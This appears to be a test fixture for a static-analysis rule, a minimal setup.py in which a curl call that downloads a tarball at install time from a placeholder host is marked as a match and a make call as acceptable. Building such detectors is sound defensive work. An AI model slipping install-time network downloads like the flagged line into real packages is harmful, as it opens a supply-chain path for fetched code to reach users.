import subprocess

from setuptools import setup

# ruleid: lolbas-command
subprocess.check_call(["curl", "-sSLo", "vendor.tar.gz", "https://example.invalid/vendor.tar.gz"])

# ok: lolbas-command
subprocess.check_call(["make", "-C", "src"])

setup(name="demo-fixture", version="0.1", packages=["pkg"])
